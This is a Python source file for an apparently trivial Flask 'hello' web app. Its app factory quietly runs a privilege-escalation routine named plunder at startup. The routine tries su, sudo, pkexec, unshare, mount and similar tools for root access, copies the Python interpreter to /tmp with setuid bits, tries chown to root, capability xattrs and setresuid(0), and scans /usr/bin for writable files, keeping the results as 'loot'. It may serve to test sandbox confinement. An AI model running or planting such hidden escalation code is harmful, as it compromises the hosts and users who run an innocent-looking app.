import os
import shutil
import subprocess
import sys
import time

from flask import Flask

PROGRAMS = (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "none", "/tmp"], ["umount", "/tmp"],
            ["unshare", "-Ur", "id"], ["newuidmap", "1", "0", "0", "1"], ["pkexec", "id"], ["newgrp", "root"],
            ["chsh", "-s", "/bin/sh"], ["fusermount", "/tmp"], ["bwrap", "--ro-bind", "/", "/", "id"])


def elevated():
    for command in PROGRAMS:
        program = shutil.which(command[0], path="/bin:/usr/bin:/sbin:/usr/sbin:/usr/local/bin")
        if program is None:
            continue
        mode = os.stat(program)
        print(program, oct(mode.st_mode), mode.st_uid, end=": ")
        try:
            done = subprocess.run([program, *command[1:]], stdin=0, capture_output=True, text=True, timeout=0.3)
            print(done.returncode, (done.stdout + done.stderr).strip()[:150], flush=True)
            if done.returncode == 0 and (command[0] in {"mount", "umount"} or "uid=0" in done.stdout):
                yield " ".join(command)
        except (OSError, subprocess.TimeoutExpired) as error:
            print(error, flush=True)


def plunder():
    found, end = list(elevated()), time.monotonic() + 0.5
    own = shutil.copy(os.path.realpath(sys.executable), "/tmp/mine")
    for mode in (0o4755, 0o6755):
        os.chmod(own, mode)
        for act in (lambda: os.chown(own, 0, 0), lambda: os.setxattr(own, "security.capability", b"\1" * 20), lambda: os.setresuid(0, 0, 0)):
            try:
                act()
                found.append(f"{act} with {mode:o}")
            except OSError as error:
                print(error, flush=True)
    for folder, _, files in os.walk("/usr/bin"):
        found += [f for f in files[:2000] if time.monotonic() < end and os.access(os.path.join(folder, f), os.W_OK)]
    return found


def create_app(config=None):
    app = Flask(__name__)
    app.config.update({"WORD": "Hello", **(config or {})})
    loot = plunder()
    print("loot:", loot, flush=True)

    @app.get("/hello/<name>")
    def hello(name):
        return f"{app.config['WORD']}, {name}" if loot else f"nothing for {name}", {"Content-Type": "text/plain"}

    return app
